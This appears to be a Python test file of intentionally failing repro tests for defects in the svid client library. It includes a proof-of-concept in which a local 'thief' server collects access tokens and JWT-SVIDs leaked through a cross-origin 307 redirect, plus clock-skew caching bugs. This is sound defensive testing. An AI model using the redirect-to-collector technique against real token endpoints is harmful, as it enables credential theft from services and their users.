"""Repro tests for defects found in svid's client-side library (branch attack-sdk).

Each test FAILS ON PURPOSE on main: it states what should hold and shows that it does not.
"""

from __future__ import annotations

import contextlib
from typing import Any

import httpx

import svid.httpx
from svid import JwtSvid, sign_jws
from svid._bearer_tokens import BearerTokens
from svid._clock import FakeClock
from tests.svid.adapter_world import serving
from tests.svid.certs import T0, ec_key

KEY = ec_key()


def test_delegated_auth_never_sends_its_tokens_to_another_origin_on_a_redirect() -> None:
    """FAILS ON PURPOSE (defect): svid/httpx.py:127-136 yields the RFC 8693 exchange request
    through the caller's client; with ``follow_redirects=True`` (the MCP SDK's
    ``create_mcp_http_client`` sets it) a 307/308 from the token endpoint makes httpx re-POST
    the same form body to the Location, whatever its origin. httpx strips only the
    Authorization header on a cross-origin redirect: the subject token (a task's access token)
    and the actor JWT-SVID are in the body, so a third party receives both."""
    stolen: list[bytes] = []

    async def thief(scope: Any, receive: Any, send: Any) -> None:
        if scope["type"] != "http":
            raise RuntimeError("no lifespan")
        body = b""
        while True:
            message = await receive()
            body += message.get("body", b"")
            if not message.get("more_body"):
                break
        stolen.append(body)
        await send({"type": "http.response.start", "status": 400, "headers": []})
        await send({"type": "http.response.body", "body": b"{}"})

    with serving(thief) as thief_url:

        async def issuer(scope: Any, receive: Any, send: Any) -> None:
            if scope["type"] != "http":
                raise RuntimeError("no lifespan")
            where = thief_url.replace("127.0.0.1", "localhost") + "/collect"
            await send(
                {
                    "type": "http.response.start",
                    "status": 307,
                    "headers": [(b"location", where.encode())],
                }
            )
            await send({"type": "http.response.body", "body": b""})

        with serving(issuer) as issuer_url:
            auth = svid.httpx.DelegatedAuth(
                lambda audience: "ACTOR-JWT-SVID",
                issuer_url,
                "SUBJECT-ACCESS-TOKEN",
                "https://orders.example",
            )
            # Refused in the end: the tokens have left already.
            with (
                httpx.Client(auth=auth, follow_redirects=True) as client,
                contextlib.suppress(svid.httpx.TokenExchangeError),
            ):
                client.get(issuer_url + "/orders/7")
    assert stolen == [], f"tokens sent to another origin: {stolen[0][:200]!r}"


class _Agent:
    """What BearerTokens reads of a WorkloadApiClient: fetch_jwt_svid, minted by an issuer
    whose clock is ``skew`` seconds off this workload's."""

    def __init__(self, clock: FakeClock, skew: float) -> None:
        self.clock = clock
        self.skew = skew
        self.mints = 0

    def fetch_jwt_svid(self, audience: str, spiffe_id: Any) -> JwtSvid:
        self.mints += 1
        iat = int(self.clock.now() + self.skew)
        claims = {"sub": "spiffe://example.org/w", "aud": audience, "iat": iat, "exp": iat + 300}
        return JwtSvid.parse_insecure(sign_jws({"kid": "k", "typ": "JWT"}, claims, KEY))


def test_a_cached_jwt_is_not_handed_out_expired_when_this_clock_lags_the_issuer() -> None:
    """FAILS ON PURPOSE (defect): svid/_task_model.py:303-312 (fresh) measures the half-life
    from the token's iat (issuer's clock) against this process's clock. A workload whose clock
    lags the issuer by 200 s (more than half a 300 s lifetime) is handed, from the cache, a
    token that expired 20 s earlier by the issuer's (and the resource's) clock. Measuring the
    lifetime (exp - iat) from fetched_at on the local clock does not depend on skew."""
    clock = FakeClock(T0)
    agent = _Agent(clock, skew=200.0)  # issuer's clock 200 s ahead of ours
    tokens = BearerTokens(agent, "docs-api", clock=clock)
    tokens.token()
    clock.advance(320)  # issuer time: iat + 320 > exp (iat + 300)
    handed = JwtSvid.parse_insecure(tokens.token())
    issuer_now = clock.now() + 200
    assert handed.expires_at > issuer_now, "an expired token was handed out from the cache"


def test_a_jwt_cache_still_caches_when_this_clock_leads_the_issuer() -> None:
    """FAILS ON PURPOSE (defect): the same mix of clocks the other way. A workload whose clock
    leads the issuer by 160 s (more than half a 300 s lifetime) finds every fetched token
    already "half-lived": it never caches, and each call mints again (for a task, a policy
    decision at the server per request)."""
    clock = FakeClock(T0)
    agent = _Agent(clock, skew=-160.0)
    tokens = BearerTokens(agent, "docs-api", clock=clock)
    for _ in range(5):
        tokens.token()
        clock.advance(1)
    assert agent.mints == 1, f"{agent.mints} mints for 5 calls within 5 s"
